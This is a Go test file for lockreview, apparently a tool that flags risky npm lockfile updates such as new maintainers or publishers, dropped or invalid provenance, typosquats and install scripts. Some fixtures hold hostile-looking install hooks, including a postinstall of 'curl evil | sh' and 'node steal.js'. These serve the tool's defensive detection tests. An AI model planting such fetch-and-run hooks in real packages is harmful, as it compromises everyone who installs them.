package checks_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/lockreview/lockreview/pkg/checks"
	"github.com/lockreview/lockreview/pkg/diff"
	"github.com/lockreview/lockreview/pkg/lockfile"
	"github.com/lockreview/lockreview/pkg/provenance"
	"github.com/lockreview/lockreview/pkg/registry"
)

var now = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

// meta is a compact way to write one version's metadata.
type meta struct {
	maint      []string
	publisher  string
	repo       string
	scripts    map[string]string
	gyp        bool
	deprecated string
	published  time.Time
	created    time.Time
	slsa       *provenance.SLSA
	attested   bool
	provErr    error
	sigErr     error
	err        error
}

func (m meta) build(name, version string) *checks.VersionMeta {
	man := &registry.Manifest{Name: name, Version: version, Scripts: m.scripts, Gypfile: m.gyp, Deprecated: m.deprecated, Repository: registry.Repository{URL: m.repo}}
	for _, p := range m.maint {
		man.Maintainers = append(man.Maintainers, registry.Person{Name: p})
	}
	if m.publisher != "" {
		man.NPMUser = &registry.Person{Name: m.publisher}
	}
	vm := &checks.VersionMeta{Manifest: man, Published: m.published, Created: m.created, Attested: m.attested || m.slsa != nil, ProvenanceErr: m.provErr, SignatureErr: m.sigErr, Err: m.err}
	if m.slsa != nil {
		vm.Provenance = &provenance.Result{Provenance: m.slsa}
	}
	if m.err != nil {
		vm.Manifest = nil
	}
	return vm
}

func slsa(repo, workflow, ref string) *provenance.SLSA {
	return &provenance.SLSA{SourceRepository: repo, BuildConfig: workflow, SourceRef: ref, SourceCommit: "0123456789abcdef0123456789abcdef01234567", Issuer: "https://token.actions.githubusercontent.com"}
}

func TestOnlineChecks(t *testing.T) {
	old := now.Add(-400 * 24 * time.Hour)
	update := func(from, to string) (*lockfile.Lockfile, *lockfile.Lockfile) {
		return lock(t, 3, `"a":"*"`, pkg("node_modules/a", from)), lock(t, 3, `"a":"*"`, pkg("node_modules/a", to))
	}
	type tc struct {
		name        string
		check       string
		from, to    string // from "" means an addition
		before, aft meta
		want        []got
		wantMsg     string
	}
	gh := "https://github.com/o/a"
	tests := []tc{
		{name: "maintainers-added", check: "maintainers-changed", from: "1.0.0", to: "1.0.1",
			before: meta{maint: []string{"alice"}}, aft: meta{maint: []string{"alice", "mallory"}},
			want: []got{{"maintainers-changed", "medium", "a", "1.0.1", "1.0.0", ""}}, wantMsg: "adds maintainers mallory"},
		{name: "maintainers-left-is-low", check: "maintainers-changed", from: "1.0.0", to: "1.0.1",
			before: meta{maint: []string{"alice", "bob"}}, aft: meta{maint: []string{"alice"}},
			want: []got{{"maintainers-changed", "low", "a", "1.0.1", "1.0.0", ""}}},
		{name: "maintainers-same-no-fire", check: "maintainers-changed", from: "1.0.0", to: "1.0.1",
			before: meta{maint: []string{"alice", "bob"}}, aft: meta{maint: []string{"bob", "alice"}}},
		{name: "publisher-alone-medium", check: "publisher-changed", from: "1.0.0", to: "1.0.1",
			before: meta{publisher: "alice", published: old}, aft: meta{publisher: "mallory", published: old},
			want: []got{{"publisher-changed", "medium", "a", "1.0.1", "1.0.0", ""}}},
		{name: "publisher-with-install-script-high", check: "publisher-changed", from: "1.0.0", to: "1.0.1",
			before: meta{publisher: "alice", published: old}, aft: meta{publisher: "mallory", published: old, scripts: map[string]string{"postinstall": "node x.js"}},
			want: []got{{"publisher-changed", "high", "a", "1.0.1", "1.0.0", ""}}, wantMsg: "together with a new install script"},
		{name: "publisher-same-no-fire", check: "publisher-changed", from: "1.0.0", to: "1.0.1",
			before: meta{publisher: "alice"}, aft: meta{publisher: "alice"}},
		{name: "repository-changed", check: "repository-changed", from: "1.0.0", to: "1.0.1",
			before: meta{repo: "git+https://github.com/o/a.git"}, aft: meta{repo: "https://github.com/evil/a"},
			want: []got{{"repository-changed", "medium", "a", "1.0.1", "1.0.0", ""}}},
		{name: "repository-rename-low", check: "repository-changed", from: "1.0.0", to: "1.0.1",
			before: meta{repo: "https://github.com/o/a.git"}, aft: meta{repo: "https://github.com/o/node-a.git"},
			want: []got{{"repository-changed", "low", "a", "1.0.1", "1.0.0", ""}}},
		{name: "repository-spelling-no-fire", check: "repository-changed", from: "1.0.0", to: "1.0.1",
			before: meta{repo: "git+ssh://git@github.com/o/a.git"}, aft: meta{repo: "https://github.com/o/a"}},
		{name: "recent-release", check: "recent-release", to: "1.0.0",
			aft:  meta{published: now.Add(-5 * time.Hour), created: old},
			want: []got{{"recent-release", "medium", "a", "1.0.0", "", ""}}, wantMsg: "published 5h ago"},
		{name: "old-release-no-fire", check: "recent-release", to: "1.0.0", aft: meta{published: now.Add(-72 * time.Hour)}},
		{name: "new-package", check: "new-package", to: "1.0.0",
			aft:  meta{published: now.Add(-10 * 24 * time.Hour), created: now.Add(-10 * 24 * time.Hour)},
			want: []got{{"new-package", "medium", "a", "1.0.0", "", ""}}},
		{name: "established-package-no-fire", check: "new-package", to: "1.0.0", aft: meta{created: old}},
		{name: "deprecated", check: "deprecated", to: "1.0.0", aft: meta{deprecated: "critical bug, use 1.0.1"},
			want: []got{{"deprecated", "low", "a", "1.0.0", "", ""}}, wantMsg: `"critical bug, use 1.0.1"`},
		{name: "provenance-verified-info", check: "provenance", to: "1.0.0", aft: meta{slsa: slsa(gh, ".github/workflows/release.yml", "refs/tags/v1.0.0")},
			want: []got{{"provenance", "info", "a", "1.0.0", "", ""}}, wantMsg: "built from https://github.com/o/a"},
		{name: "provenance-dropped", check: "provenance-dropped", from: "1.0.0", to: "1.0.1",
			before: meta{slsa: slsa(gh, ".github/workflows/release.yml", "refs/tags/v1.0.0")}, aft: meta{},
			want: []got{{"provenance-dropped", "high", "a", "1.0.1", "1.0.0", ""}}},
		{name: "provenance-dropped-across-majors-no-fire", check: "provenance-dropped", from: "1.0.0", to: "2.0.0",
			before: meta{slsa: slsa(gh, ".github/workflows/release.yml", "refs/tags/v1.0.0")}, aft: meta{}},
		{name: "provenance-kept-no-fire", check: "provenance-dropped", from: "1.0.0", to: "1.0.1",
			before: meta{slsa: slsa(gh, "w.yml", "refs/tags/v1.0.0")}, aft: meta{slsa: slsa(gh, "w.yml", "refs/tags/v1.0.1")}},
		{name: "provenance-dropped-metadata-missing-no-fire", check: "provenance-dropped", from: "1.0.0", to: "1.0.1",
			before: meta{slsa: slsa(gh, "w.yml", "refs/tags/v1.0.0")}, aft: meta{err: errors.New("timeout")}},
		{name: "identity-changed-workflow", check: "provenance-identity-changed", from: "1.0.0", to: "1.0.1",
			before: meta{slsa: slsa(gh, ".github/workflows/release.yml", "refs/tags/v1.0.0")}, aft: meta{slsa: slsa(gh, ".github/workflows/ci.yml", "refs/tags/v1.0.1")},
			want: []got{{"provenance-identity-changed", "high", "a", "1.0.1", "1.0.0", ""}}, wantMsg: "workflow .github/workflows/ci.yml"},
		{name: "identity-changed-branch", check: "provenance-identity-changed", from: "1.0.0", to: "1.0.1",
			before: meta{slsa: slsa(gh, "w.yml", "refs/tags/v1.0.0")}, aft: meta{slsa: slsa(gh, "w.yml", "refs/heads/evil")},
			want: []got{{"provenance-identity-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		{name: "identity-new-tag-no-fire", check: "provenance-identity-changed", from: "1.0.0", to: "1.0.1",
			before: meta{slsa: slsa(gh, "w.yml", "refs/tags/v1.0.0")}, aft: meta{slsa: slsa(gh+".git", "w.yml", "refs/tags/v1.0.1")}},
		{name: "provenance-invalid", check: "provenance-invalid", to: "1.0.0", aft: meta{attested: true, provErr: fmt.Errorf("slsa: %w", provenance.ErrDigestMismatch)},
			want: []got{{"provenance-invalid", "critical", "a", "1.0.0", "", ""}}},
		{name: "provenance-fetch-error-is-not-invalid", check: "provenance-invalid", to: "1.0.0", aft: meta{attested: true, provErr: errors.New("registry 503")}},
		{name: "signature-invalid", check: "signature-invalid", to: "1.0.0", aft: meta{sigErr: provenance.ErrSignature},
			want: []got{{"signature-invalid", "critical", "a", "1.0.0", "", ""}}},
		{name: "metadata-unavailable", check: "metadata-unavailable", to: "1.0.0", aft: meta{err: errors.New("registry timed out")},
			want: []got{{"metadata-unavailable", "low", "a", "1.0.0", "", ""}}},
		{name: "install-script-text-from-manifest", check: "install-script", to: "1.0.0", aft: meta{scripts: map[string]string{"postinstall": "node steal.js", "test": "jest"}},
			want: []got{{"install-script", "high", "a", "1.0.0", "", ""}}, wantMsg: "postinstall `node steal.js`"},
		{name: "install-script-gypfile", check: "install-script", to: "1.0.0", aft: meta{gyp: true},
			want: []got{{"install-script", "high", "a", "1.0.0", "", ""}}, wantMsg: "install `node-gyp rebuild`"},
		{name: "install-script-changed", check: "install-script", from: "1.0.0", to: "1.0.1",
			before: meta{scripts: map[string]string{"postinstall": "node install.js"}}, aft: meta{scripts: map[string]string{"postinstall": "curl evil | sh"}},
			want: []got{{"install-script", "medium", "a", "1.0.1", "1.0.0", ""}}, wantMsg: "changed its install script"},
		{name: "install-script-unchanged-no-fire", check: "install-script", from: "1.0.0", to: "1.0.1",
			before: meta{scripts: map[string]string{"postinstall": "node install.js"}}, aft: meta{scripts: map[string]string{"postinstall": "node install.js"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var base, head *lockfile.Lockfile
			md := checks.Metadata{}
			if tc.from == "" {
				base, head = lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", tc.to))
			} else {
				base, head = update(tc.from, tc.to)
				md[checks.Key("a", tc.from)] = tc.before.build("a", tc.from)
			}
			md[checks.Key("a", tc.to)] = tc.aft.build("a", tc.to)
			cfg := checks.DefaultConfig()
			in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(base, head), Config: cfg, Meta: md, Now: now}
			var gotRows []got
			var msgs []string
			for _, f := range checks.Run(in, func(id string) bool { return id == tc.check }) {
				gotRows = append(gotRows, got{f.Check, f.Severity.String(), f.Package, f.Version, f.From, f.Target})
				msgs = append(msgs, f.Message)
			}
			if d := cmp.Diff(tc.want, gotRows); d != "" {
				t.Errorf("%s diff (-want +got):\n%s\nmessages: %q", tc.check, d, msgs)
			}
			if tc.wantMsg != "" && (len(msgs) == 0 || !strings.Contains(msgs[0], tc.wantMsg)) {
				t.Errorf("message %q does not contain %q", msgs, tc.wantMsg)
			}
		})
	}
}

// TestOnlineChecksOffline: without metadata the online checks report nothing.
func TestOnlineChecksOffline(t *testing.T) {
	base, head := lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.0.1"))
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(base, head), Config: checks.DefaultConfig(), Now: now}
	for _, c := range checks.All() {
		if c.Online && len(c.Run(in)) > 0 {
			t.Errorf("online check %s fired without metadata", c.ID)
		}
	}
}

// TestTyposquatWeakRuleNewPackage: a weak-rule look-alike that is also days
// old on the registry reports high.
func TestTyposquatWeakRuleNewPackage(t *testing.T) {
	head := lock(t, 3, ``, pkg("node_modules/node-mkdirp", "0.0.1"))
	cfg := checks.DefaultConfig()
	cfg.Typosquat = fakeIndex{"node-mkdirp": "mkdirp|affix"}
	for _, tc := range []struct {
		created time.Time
		want    string
	}{{now.Add(-3 * 24 * time.Hour), "high"}, {now.Add(-3 * 365 * 24 * time.Hour), "medium"}} {
		md := checks.Metadata{checks.Key("node-mkdirp", "0.0.1"): meta{created: tc.created}.build("node-mkdirp", "0.0.1")}
		in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(nil, head), Config: cfg, Meta: md, Now: now}
		fs := checks.Typosquats(in)
		if len(fs) != 1 || fs[0].Severity.String() != tc.want {
			t.Errorf("created %s: findings %+v, want one %s", tc.created.Format(time.DateOnly), fs, tc.want)
		}
	}
}
